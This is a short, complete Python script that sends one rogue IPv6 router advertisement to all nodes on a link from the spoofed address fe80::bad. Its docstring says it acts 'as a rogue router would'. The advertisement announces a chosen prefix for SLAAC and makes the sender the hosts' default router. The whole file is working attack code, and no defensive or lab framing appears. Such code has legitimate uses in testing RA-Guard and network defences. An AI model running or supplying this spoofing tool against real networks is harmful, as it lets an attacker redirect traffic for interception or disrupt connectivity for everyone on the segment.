"""`python rogue_ra.py INTERFACE PREFIX`: one router advertisement to all nodes, as a rogue router would.

It announces PREFIX/64 for SLAAC and itself as default router, from the link-local
address fe80::bad (added by the caller with `nodad`). The kernel fills in the checksum.
"""

from __future__ import annotations

import ipaddress
import socket
import struct
import sys

SOURCE = "fe80::bad"


def advertisement(prefix: ipaddress.IPv6Network) -> bytes:
    # type 134, code 0, checksum, hop limit 64, no flags, router lifetime 1800 s, reachable, retrans
    header = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0)
    # prefix information: on-link and autonomous, valid 1 day, preferred 4 hours
    option = struct.pack("!BBBBIII", 3, 4, prefix.prefixlen, 0xC0, 86400, 14400, 0) + prefix.network_address.packed
    return header + option


def main(interface: str, prefix: str) -> None:
    index = socket.if_nametoindex(interface)
    with socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6) as sock:
        sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
        sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, index)
        sock.bind((SOURCE, 0, 0, index))
        sock.sendto(advertisement(ipaddress.IPv6Network(prefix)), ("ff02::1", 0, 0, index))


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2])
